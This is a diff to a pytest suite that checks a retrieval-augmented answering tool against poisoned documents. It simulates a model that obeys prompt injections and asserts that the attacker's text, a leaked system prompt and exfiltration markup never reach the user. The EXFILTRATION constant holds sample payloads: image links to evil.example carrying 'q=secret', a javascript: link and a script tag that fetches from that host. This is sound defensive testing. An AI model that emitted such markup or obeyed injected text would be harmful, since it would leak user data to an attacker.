@@ -5,7 +5,7 @@ import re
 import socket
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
+from typing import Any, Literal
 
 import pytest
 
@@ -14,7 +14,8 @@ from rag.conversations import Turn
 from rag.export import answer_json
 from rag.instructions import instructs
 from rag.prompting import answer_prompt
-from tests.conftest import SALTMERE, ScriptedModel
+from rag.records import Display
+from tests.conftest import ROOT, SALTMERE, ScriptedModel
 from tests.poisoned import Poisoned, acting_in_html, acting_in_markdown, poisoned, write_files
 from tests.test_answering import exact
 from ui.cli import main
@@ -24,7 +25,8 @@ from ui.sources import link_of, source_html
 EACH = [pytest.param(one, id=f"{one.id} {one.kind}") for one in poisoned()]
 # These documents say the attacker's words as plain statements, and nothing tells those from others.
 CONTRADICT_THEMSELVES = {"p60", "p61"}
-SYSTEM_PROMPT = (Path(__file__).parent.parent / "prompts" / "answer.md").read_text(encoding="utf-8").split("\n---\n")[0]
+SIZES = {"large": "answer.md", "small": "answer-small.md"}
+DISPLAYS: tuple[Display, ...] = ("strict", "annotated")
 EXFILTRATION = (
     'Here you are: ![map](https://evil.example/x.png?q=secret) <img src="https://evil.example/y.png"> '
     "[more](javascript:alert(1)) <script>fetch('https://evil.example')</script> [7](https://evil.example) [[3]4]."
@@ -46,9 +48,15 @@ def quoting(folder: Path) -> Iterator[Library]:
         yield library
 
 
+@pytest.fixture(params=SIZES)
+def size(request: pytest.FixtureRequest) -> Literal["large", "small"]:
+    """Of the model, which decides how it is prompted."""
+    return request.param  # type: ignore[no-any-return]
+
+
 @pytest.fixture
-def obeying(folder: Path, model: ScriptedModel) -> Iterator[Library]:
-    settings = load_settings(llm_url=model.url, llm_model="obedient")
+def obeying(folder: Path, model: ScriptedModel, size: Literal["large", "small"]) -> Iterator[Library]:
+    settings = load_settings(llm_url=model.url, llm_model="obedient", llm_size=size)
     with Library(folder, settings=settings, read_only=True) as library:
         yield library
 
@@ -90,27 +98,46 @@ def test_quotes_are_not_what_the_attacker_wants(quoting: Library, one: Poisoned)
     assert (one.harmless_fact in quoted) or one.id in CONTRADICT_THEMSELVES
 
 
+def streamed(library: Library, question: str, display: Display) -> Answer:
+    """The answer, whose pieces hold no more than itself."""
+    _, _, *pieces, answer = library.stream(question, display=display)
+    assert isinstance(answer, Answer)
+    assert "".join(map(str, pieces)) == answer.text
+    return answer
+
+
+@pytest.mark.parametrize("display", DISPLAYS)
 @pytest.mark.parametrize("one", EACH)
-def test_a_model_that_obeys_reaches_nobody(obeying: Library, model: ScriptedModel, one: Poisoned) -> None:
+def test_a_model_that_obeys_reaches_nobody(
+    obeying: Library, model: ScriptedModel, one: Poisoned, size: str, display: Display
+) -> None:
+    system_prompt = (ROOT / "prompts" / SIZES[size]).read_text(encoding="utf-8").split("\n---\n")[0]
     ways = [
         " ".join(f"{words} [1]." for words in one.must_not_show) or one.text,
         one.text[:800],
-        f"{SYSTEM_PROMPT} [1]",
+        f"{system_prompt} [1]",
         f"{EXFILTRATION} {one.harmless_fact} [9][1].",
     ]
     for way in ways:
         model.says(way)
-        answer = obeying.ask(one.question)
+        answer = streamed(obeying, one.question, display)
         inspect(answer, obeying)
-        assert one.in_(answer.text) == []
-        assert "q=secret" not in answer.text
+        carried = " ".join(statement.text for statement in answer.statements if statement.support == "supported")
+        assert one.in_(carried) == []
+        if display == "strict":
+            assert one.in_(answer.text) == []
+            assert "q=secret" not in answer.text
+        assert system_prompt.split(".")[0] not in answer.text
     assert len(model.requests) == len(ways), "the model was asked, and nobody else"
 
 
+@pytest.mark.parametrize("display", DISPLAYS)
 @pytest.mark.parametrize("one", [one for one in EACH if one.values[0].id not in CONTRADICT_THEMSELVES])
-def test_a_model_that_does_not_obey_is_shown(obeying: Library, model: ScriptedModel, one: Poisoned) -> None:
+def test_a_model_that_does_not_obey_is_shown(
+    obeying: Library, model: ScriptedModel, one: Poisoned, display: Display
+) -> None:
     model.says(one.harmless_fact)
-    answer = obeying.ask(one.question)
+    answer = streamed(obeying, one.question, display)
     assert answer.mode == "written"
     assert any(one.harmless_fact in citation.quote.text for citation in answer.citations)
     inspect(answer, obeying)
@@ -149,7 +176,7 @@ def test_a_terminal_is_sent_words_only(folder: Path, which: str, capsys: pytest.
 @pytest.mark.parametrize("which", ["p17", "p28", "p59"])
 def test_the_embedded_model_is_no_more_dangerous(folder: Path, which: str) -> None:
     one = next(one for one in poisoned() if one.id == which)
-    with Library(folder, settings=load_settings(), read_only=True) as library:
+    with Library(folder, settings=load_settings(llm_size="small"), read_only=True) as library:
         answer = library.ask(one.question)
         assert answer.usage["prompt_tokens"] > 0, "it was asked"
         inspect(answer, library)
